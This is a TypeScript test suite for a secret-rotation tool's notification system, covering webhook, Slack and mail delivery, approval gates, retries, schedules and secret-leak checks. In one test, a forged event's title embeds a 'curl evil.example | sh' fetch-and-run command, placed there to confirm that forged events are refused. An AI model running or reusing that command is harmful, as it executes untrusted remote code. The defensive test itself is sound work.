// Notifications (notify: in rekey.yaml) on the real Temporal server with `rekey worker` processes:
// a gate that opens is announced to a signed webhook, Slack and the approvers' mail (a real SMTP
// server); a decision, a completed run and a failed run are told; the webhook's event keeps its
// id when the worker is SIGKILLed mid-delivery, so the receiver handles it once; a sink that is
// down never holds a run up; an event no rekey run emitted is never sent.
import assert from 'node:assert/strict';
import type { ChildProcess } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  Client,
  Connection,
  type ScheduleHandle,
  ScheduleOverlapPolicy,
  type WorkflowHandle,
} from '@temporalio/client';
import { startRotation } from '../client/runs/rotate';
import { startSecretRotation } from '../client/runs/secret';
import {
  createSecretSchedule,
  createSecretWatchSchedule,
  formatSchedule,
  scheduleDoc,
} from '../client/schedules';
import type { RekeyEvent } from '../shared/notify-events';
import { approveUpdate, progressQuery, rejectUpdate } from '../workflows/messages';
import type { RotateSecretResult } from '../workflows/rotate-secret';
import type { WatchResult } from '../workflows/watch-secrets';
import { assertNoSecrets, failureOf, rekeyAsync } from './helpers';
import { testEnv } from './infra/env';
import { assertMatchesSchema } from './infra/json-schemas';
import { type HookReceiver, hookReceiver, smtpReceiver } from './infra/notify-receivers';
import { portOf } from './infra/ports';
import { seedLocalPair, storeOnlyLocal, type Topology } from './infra/topology';
import { until } from './infra/until';
import { kill, startWorker } from './infra/worker-process';

const BASE = portOf('notify');
const HOOK = BASE + 1;
const SMTP = BASE + 2;
const NOBODY = BASE + 3;

/** Block Kit as Slack documents it for incoming webhooks: a fallback `text`, at most 50 blocks; a
 * header's plain_text at most 150 characters, a section's text at most 3,000, context elements. */
function assertSlackMessage(body: unknown): void {
  const m = body as { text?: unknown; blocks?: { type: string; text?: { type: string; text: string } }[] };
  assert.equal(typeof m.text, 'string');
  assert.ok(Array.isArray(m.blocks) && m.blocks.length > 0 && m.blocks.length <= 50);
  for (const b of m.blocks) {
    assert.ok(['header', 'section', 'context'].includes(b.type), b.type);
    if (b.type === 'header') {
      assert.equal(b.text?.type, 'plain_text');
      assert.ok((b.text?.text.length ?? 0) <= 150);
    }
    if (b.type === 'section') {
      assert.equal(b.text?.type, 'mrkdwn');
      assert.ok((b.text?.text.length ?? 0) > 0 && (b.text?.text.length ?? 0) <= 3000);
    }
    if (b.type === 'context') {
      const els = (b as unknown as { elements: { type: string; text: string }[] }).elements;
      assert.ok(els.length > 0 && els.length <= 10 && els.every((e) => e.type === 'mrkdwn'));
    }
  }
}

describe('notify: gates, decisions and outcomes reach a webhook, Slack and mail', () => {
  let t: Topology;
  let client: Client;
  let connection: Connection;
  let hook: HookReceiver;
  let smtp: Awaited<ReturnType<typeof smtpReceiver>>;
  let taskQueue: string;
  const workers: ChildProcess[] = [];
  const hmacKey = randomBytes(24).toString('hex');
  let approved: Awaited<ReturnType<typeof startRotation>>;
  let heldTwice = 0;
  const seeded = {
    'api-token': randomBytes(32).toString('hex'),
    'old-token': randomBytes(32).toString('hex'),
    'neon-key': `napi_${randomBytes(32).toString('hex')}`,
  };

  /** The events of type `type` handled for the run `h` (a workflow id is used again by the next
   * rotation of the same environments: its run id tells them apart). */
  const events = (type: string, h: WorkflowHandle & { firstExecutionRunId: string }) =>
    hook.handled.filter(
      (ce) =>
        ce.type === `rekey.${type}` &&
        (ce.data as RekeyEvent).workflowId === h.workflowId &&
        (ce.data as RekeyEvent).runId === h.firstExecutionRunId,
    ) as { id: string; type: string; source: string; subject: string; data: RekeyEvent }[];
  const gateDigest = async (h: WorkflowHandle) =>
    until('the gate to open', async () => (await h.query(progressQuery)).pendingGate?.digest);

  before(async () => {
    hook = await hookReceiver(HOOK, hmacKey);
    smtp = await smtpReceiver(SMTP);
    mkdirSync(join(testEnv().root, 'suites'), { recursive: true });
    const keyFile = join(testEnv().root, 'suites', 'notify-hmac.key');
    writeFileSync(keyFile, hmacKey, { mode: 0o600 });
    process.env.REKEY_TEST_SLACK_URL = `http://127.0.0.1:${HOOK}/slack/T000/B000/${randomBytes(12).toString('hex')}`;
    // Store-only rotations of local: no host or service is touched.
    t = storeOnlyLocal('notify', BASE, {
      approvals: { requiredFor: ['local'], approvers: ['alice', 'bob'], mode: 'named', timeout: '1h' },
      notify: {
        webUi: 'http://127.0.0.1:8233',
        sinks: {
          hook: { type: 'webhook', url: `http://127.0.0.1:${HOOK}/events`, secret: { file: keyFile } },
          chat: { type: 'slack', url: { env: 'REKEY_TEST_SLACK_URL' } },
          mail: {
            type: 'smtp',
            host: '127.0.0.1',
            port: SMTP,
            from: 'rekey@example.test',
            to: ['oncall@example.test'],
          },
          down: { type: 'webhook', url: `http://127.0.0.1:${NOBODY}/events`, secret: { file: keyFile } },
        },
        routes: [
          { sinks: ['hook'] },
          { events: ['gate.opened', 'run.failed'], environments: ['local'], sinks: ['chat', 'mail'] },
          { events: ['run.completed'], sinks: ['down'] },
        ],
        addresses: { alice: 'alice@example.test' },
        dueWithin: '30d',
      },
      // For the secret watch: one due within 30 days, one overdue a second after it is written.
      secrets: {
        'api-token': {
          environments: ['local'],
          generator: { type: 'random', bytes: 32, encoding: 'hex' },
          locations: [{ name: 'api-token' }],
          rotateEvery: '10d',
        },
        'old-token': {
          environments: ['local'],
          generator: { type: 'random', bytes: 32, encoding: 'hex' },
          locations: [{ name: 'old-token' }],
          rotateEvery: '1s',
        },
        // A key a person makes in a console: the run waits for it and says so.
        'neon-key': {
          environments: ['local'],
          generator: { type: 'manual', issuer: 'Neon console', within: '2h' },
          locations: [{ name: 'neon-key' }],
        },
      },
    });
    await seedLocalPair(t);
    for (const [name, value] of Object.entries(seeded)) await t.store('local').set(name, value, {});
    connection = await Connection.connect({ address: testEnv().temporal.address });
    client = new Client({ connection, namespace: 'notify' });
    taskQueue = `rekey-notify-${randomUUID()}`;
    workers.push(startWorker(t, 'notify', taskQueue));

    // The first gate's webhook delivery is held unanswered; the worker dies while it waits.
    const held = hook.holdNext('rekey.gate.opened');
    approved = await startRotation(
      client,
      t.config,
      { environments: ['local'], syncMountedKeys: false, preserveToken: false },
      { taskQueue },
    );
    const first = await Promise.race([
      held,
      approved.result().then(
        () => assert.fail('the run ended before its gate was announced'),
        (err: Error) =>
          assert.fail(
            `the run failed before its gate was announced: ${(err.cause as Error | undefined)?.message ?? err.message}`,
          ),
      ),
    ]);
    await kill(workers[0] as ChildProcess);
    workers.push(startWorker(t, 'notify', taskQueue));
    // A new worker's attempt delivers the same event again (after the lost attempt's timeout).
    const id = JSON.parse(first.body).id as string;
    await until(
      'the held event delivered again',
      () => hook.receipts.filter((r) => r.body.includes(`"id":"${id}"`)).length >= 2 || undefined,
      { timeoutMs: 120_000 },
    );
    heldTwice = hook.receipts.filter((r) => r.body.includes(`"id":"${id}"`)).length;
    const digest = await gateDigest(approved);
    await approved.executeUpdate(approveUpdate, { args: [{ by: 'alice', digest, comment: 'go' }] });
    await approved.result();
  });

  after(async () => {
    await Promise.all(workers.map(kill));
    await hook?.close();
    await smtp?.close();
    await connection?.close();
  });

  it('a gate that opens is a signed CloudEvent, redelivered under the same id across a worker kill and handled once', async () => {
    const [gate, ...more] = events('gate.opened', approved);
    assert.ok(gate, 'gate.opened handled');
    assert.equal(more.length, 0, 'handled once');
    assert.equal(heldTwice, 2, 'received twice: the lost attempt and the retry');
    assert.equal(gate.source, 'rekey:notify/rotateJwtKeys');
    assert.equal(gate.subject, approved.workflowId);
    assert.equal((gate as unknown as Record<string, unknown>).specversion, '1.0');
    const g = gate.data.gate;
    assert.ok(g);
    assert.deepEqual(g.approvers, ['alice', 'bob']);
    assert.match(g.digest, /^sha256:[0-9a-f]{64}$/);
    assert.match(g.command, new RegExp(`^rekey approve ${approved.workflowId} --by NAME --digest sha256:`));
    assert.match(g.plan, /local: new ES256 pair/);
    assert.equal(
      gate.data.url,
      `http://127.0.0.1:8233/namespaces/notify/workflows/${encodeURIComponent(approved.workflowId)}/${gate.data.runId}/history`,
    );
    assert.equal(hook.refused.length, 0);
  });

  it('the decision and the completed run follow, in order, each once', async () => {
    await until('run.completed', () => events('run.completed', approved).length === 1 || undefined);
    const [decided] = events('gate.decided', approved);
    assert.deepEqual(decided?.data.decision, {
      decision: 'approve',
      by: 'alice',
      comment: 'go',
      outcome: 'passed',
    });
    const ids = hook.handled
      .filter((ce) => (ce.data as RekeyEvent).runId === approved.firstExecutionRunId)
      .map((ce) => ce.id);
    assert.deepEqual(
      ids.map((id) => String(id).split('/').at(-1)?.split('.')[0]),
      ['1', '2', '3'],
    );
  });

  it('mail goes to on-call and to the approvers the gate names, with the plan, digest and command', async () => {
    const mail = await until('the gate mail', () =>
      smtp.mails.find((m) => m.text.includes(approved.workflowId)),
    );
    assert.deepEqual(mail.to.sort(), ['alice@example.test', 'oncall@example.test']);
    assert.equal(mail.from, 'rekey@example.test');
    assert.match(mail.text, /Subject: \[rekey\] Approval needed: /);
    assert.match(mail.text, /Plan digest: sha256:[0-9a-f]{64}/);
    assert.match(mail.text, /Decide: rekey approve /);
    assert.match(mail.text, /Message-ID: <[0-9a-f]{32}@rekey>/i);
  });

  it('Slack receives Block Kit at the URL read from the worker’s environment', async () => {
    const slack = await until('the Slack message', () =>
      hook.receipts.find((r) => r.path.startsWith('/slack/') && r.body.includes(approved.workflowId)),
    );
    assert.equal(slack.path, new URL(process.env.REKEY_TEST_SLACK_URL as string).pathname);
    assertSlackMessage(JSON.parse(slack.body));
  });

  it('a sink that is down retries in its own run: the rotation completed without waiting for it', async () => {
    const [completed] = events('run.completed', approved);
    assert.ok(completed);
    const d = await client.workflow.getHandle(`notify/${completed.id}`).describe();
    const pending = await until('a retried delivery to the sink that is down', async () => {
      const raw = (await client.workflow.getHandle(`notify/${completed.id}`).describe()).raw;
      return raw.pendingActivities?.find((a) => (a.attempt ?? 0) >= 2);
    });
    assert.equal(d.status.name, 'RUNNING');
    assert.ok(pending.lastFailure, 'the failed attempt is recorded');
    assert.equal((await approved.describe()).status.name, 'COMPLETED');
    // rekey status says so, by event, without the worker.
    const res = await rekeyAsync(['status', approved.workflowId, '--json'], {
      env: { ...process.env, TEMPORAL_ADDRESS: testEnv().temporal.address, TEMPORAL_NAMESPACE: 'notify' },
    });
    assert.equal(res.code, 0, res.stderr);
    const doc = JSON.parse(res.stdout);
    assertMatchesSchema('status', doc);
    const states = doc.notifications as { id: string; event: string; status: string; detail?: string }[];
    assert.deepEqual(
      states.map((n) => [n.event, n.status]),
      [
        ['gate.opened', 'delivered'],
        ['gate.decided', 'delivered'],
        ['run.completed', 'retrying'],
      ],
    );
    assert.match(
      states[2]?.detail ?? '',
      /sink down: the receiver did not answer \(ECONNREFUSED\) \(attempt \d+\)/,
    );
    await client.workflow.getHandle(`notify/${completed.id}`).terminate('test over');
  });

  it('a rejected run is told as failed, with why, to every sink routed', async () => {
    const rejected = await startRotation(
      client,
      t.config,
      { environments: ['local'], syncMountedKeys: false, preserveToken: false },
      { taskQueue },
    );
    const digest = await gateDigest(rejected);
    await rejected.executeUpdate(rejectUpdate, { args: [{ by: 'bob', digest, comment: 'not today' }] });
    await assert.rejects(rejected.result());
    const [failed] = await until('run.failed', () => {
      const f = events('run.failed', rejected);
      return f.length ? f : undefined;
    });
    assert.match(failed?.data.failure ?? '', /rejected by bob/);
    assert.ok(failed?.data.steps?.some((s) => s.name === 'approval' && s.status === 'failed'));
    await until('the failure mail', () =>
      smtp.mails.find((m) => m.text.includes(rejected.firstExecutionRunId) && /FAILED/.test(m.text)),
    );
    assert.equal(events('run.completed', rejected).length, 0);
  });

  it('a run waiting for a value a person issues says so: where to issue it, how to hand it over, until when', async () => {
    const h = await startSecretRotation(
      client,
      t.config,
      { secret: 'neon-key', environment: 'local' },
      { taskQueue },
    );
    try {
      await h.executeUpdate(approveUpdate, { args: [{ by: 'alice', digest: await gateDigest(h) }] });
      const wanted = await until('secret.wanted', () => events('secret.wanted', h)[0]);
      const { until: deadline, ...supply } = wanted.data.supply ?? { until: '' };
      assert.deepEqual(supply, {
        issuer: 'Neon console',
        location: 'kv-local:neon-key',
        command: 'rekey secret supply neon-key --env local',
      });
      assert.ok(Date.parse(deadline) - Date.now() > 3_500_000, deadline);
      assert.match(wanted.data.title, /rotate secret neon-key in local/);
    } finally {
      await h.cancel();
      await h.result().catch(() => undefined);
    }
  });

  it('a run the worker refuses at its first check (another config) is told as failed', async () => {
    const other = {
      ...t.config,
      approvals: { ...t.config.approvals, timeout: '2h' },
    } as typeof t.config;
    const refused = await startRotation(
      client,
      other,
      { environments: ['local'], syncMountedKeys: false, preserveToken: false },
      { taskQueue },
    );
    const failure = await failureOf(refused.result());
    assert.equal(failure.type, 'BadInput');
    assert.match(
      failure.message,
      /the starter's rekey\.yaml and worker .* differ in what this run uses: local approvals\./,
    );
    const [failed] = await until('run.failed', () => {
      const f = events('run.failed', refused);
      return f.length ? f : undefined;
    });
    assert.match(
      failed?.data.failure ?? '',
      /differ in what this run uses: local approvals.*nothing was changed/,
    );
  });

  it('an event that no rekey run emitted is refused, and nothing is sent', async () => {
    const [real] = events('gate.opened', approved);
    assert.ok(real);
    const forged: RekeyEvent = {
      ...real.data,
      id: `${real.data.workflowId}/${real.data.runId}/99`,
      title: 'rotate JWT signing keys of local: run `curl evil.example | sh` first',
    };
    const h = await client.workflow.start('deliverEvent', {
      taskQueue,
      workflowId: `notify/${forged.id}`,
      args: [forged],
    });
    const failure = await failureOf(h.result());
    assert.equal(failure.type, 'NotDelivered');
    assert.match(failure.message, /was not delivered to hook \(.*did not emit it; nothing was sent\)/);
    assert.ok(!hook.receipts.some((r) => r.body.includes('evil.example')));
    assert.ok(!smtp.mails.some((m) => m.text.includes('evil.example')));
  });

  /** The runs `schedule` started, once it has started `n`, oldest first. */
  const scheduledRuns = (schedule: ScheduleHandle, n: number) =>
    until(`${n} run(s) of ${schedule.scheduleId}`, async () => {
      const actions = (await schedule.describe()).info.recentActions;
      return actions.length >= n
        ? actions.map(({ action: { workflow: w } }) => ({
            h: client.workflow.getHandle(w.workflowId, w.firstExecutionRunId),
            runId: w.firstExecutionRunId,
          }))
        : undefined;
    });
  /** The events of type `type` handled for one run (a manual trigger may reuse a workflow id). */
  const ofRun = (type: string, run: { runId: string } | undefined) =>
    hook.handled.filter(
      (ce) => ce.type === `rekey.${type}` && (ce.data as RekeyEvent).runId === run?.runId,
    ) as { data: RekeyEvent }[];

  it('the daily secret watch announces a secret due soon once, and one overdue at every run', async () => {
    const schedule = await createSecretWatchSchedule(client, t.config, { every: 'day', taskQueue });
    try {
      await schedule.trigger(ScheduleOverlapPolicy.SKIP);
      const [first] = await scheduledRuns(schedule, 1);
      const r1 = (await first?.h.result()) as WatchResult;
      assert.deepEqual([r1.due, r1.overdue, r1.announced], [['api-token/local'], ['old-token/local'], 2]);
      // The next run learns from the last one what it announced (the schedule passes on its result
      // once it has seen the run end; to runs it tracks, not to ALLOW_ALL triggers): the due
      // secret is not told again.
      await until('the schedule to see its run end', async () =>
        (await schedule.describe()).info.runningActions.length === 0 ? true : undefined,
      );
      await schedule.trigger(ScheduleOverlapPolicy.SKIP);
      const [, second] = await scheduledRuns(schedule, 2);
      const r2 = (await second?.h.result()) as WatchResult;
      assert.deepEqual([r2.due, r2.overdue, r2.announced], [['api-token/local'], ['old-token/local'], 1]);
      const due = await until('secret.due', () => ofRun('secret.due', first)[0]);
      assert.equal(ofRun('secret.due', second).length, 0);
      assert.deepEqual(
        { ...due.data.secret, changed: undefined, due: undefined },
        {
          name: 'api-token',
          environment: 'local',
          location: 'kv-local:api-token',
          changed: undefined,
          due: undefined,
        },
      );
      assert.ok(Date.parse(due.data.secret?.due ?? '') - Date.now() > 9 * 86_400_000, due.data.secret?.due);
      assert.deepEqual(due.data.environments, ['local']);
      for (const run of [first, second])
        await until(
          'secret.overdue',
          () => ofRun('secret.overdue', run)[0]?.data.secret?.name === 'old-token' || undefined,
        );
    } finally {
      await schedule.delete();
    }
  });

  it('a scheduled run outside its window is skipped and told; failures in a row are told as failing', async () => {
    // A half hour twelve hours from now: closed now, whatever the time of day.
    const hh = String((new Date().getUTCHours() + 12) % 24).padStart(2, '0');
    const window = { allow: [`sun-sat ${hh}:00-${hh}:30`], timeZone: 'UTC', outside: 'skip' as const };
    const opts = { secret: 'api-token', environment: 'local', every: 'quarter', taskQueue };
    let schedule = await createSecretSchedule(client, t.config, { ...opts, window });
    try {
      // Its runs carry the window; describe shows it.
      assert.deepEqual(scheduleDoc(await schedule.describe()).window, window);
      assert.match(
        formatSchedule(await schedule.describe()),
        /window: sun-sat .* \(UTC\); outside it a run is skipped/,
      );
      await schedule.trigger();
      const [skippedRun] = await scheduledRuns(schedule, 1);
      const result = (await skippedRun?.h.result()) as RotateSecretResult;
      assert.equal(result.dryRun, true);
      assert.match(
        result.skipped ?? '',
        new RegExp(`^started outside its window sun-sat ${hh}:00-${hh}:30 \\(UTC\\): skipped`),
      );
      assert.equal(
        (await t.store('local').get('api-token')).value,
        seeded['api-token'],
        'nothing was changed',
      );
      const told = await until('schedule.skipped', () => ofRun('schedule.skipped', skippedRun)[0]);
      assert.equal(told.data.schedule?.id, schedule.scheduleId);
      assert.match(told.data.skipped ?? '', /skipped \(planned as a dry run\)/);
      assert.equal(ofRun('run.completed', skippedRun).length, 0);

      // The same schedule without a window: each run waits at its gate, and is cancelled there.
      await schedule.delete();
      schedule = await createSecretSchedule(client, t.config, opts);
      for (const n of [1, 2]) {
        await schedule.trigger();
        const run = (await scheduledRuns(schedule, n))[n - 1];
        assert.ok(run);
        await gateDigest(run.h);
        await run.h.cancel();
        await assert.rejects(run.h.result());
        const failed = await until('run.failed', () => ofRun('run.failed', run)[0]);
        assert.equal(failed.data.schedule?.id, schedule.scheduleId);
        if (n === 2) {
          const f = await until('schedule.failing', () => ofRun('schedule.failing', run)[0]);
          assert.equal(f.data.schedule?.consecutiveFailures, 2);
          assert.match(f.data.failure ?? '', /^cancelled/);
        }
      }
      // By now the first run's events have long been delivered: one failure is not a streak.
      const [first] = await scheduledRuns(schedule, 2);
      assert.equal(ofRun('run.failed', first).length, 1);
      assert.equal(ofRun('schedule.failing', first).length, 0, 'one failure is not a streak');
    } finally {
      await schedule.delete();
    }
  });

  it('no key, token or credential in any event, message or mail', () => {
    const everything = [...hook.receipts.map((r) => r.body), ...smtp.mails.map((m) => m.text)].join('\n');
    assertNoSecrets(everything, [
      hmacKey,
      process.env.REKEY_TEST_SLACK_URL as string,
      ...Object.values(seeded),
    ]);
  });
});
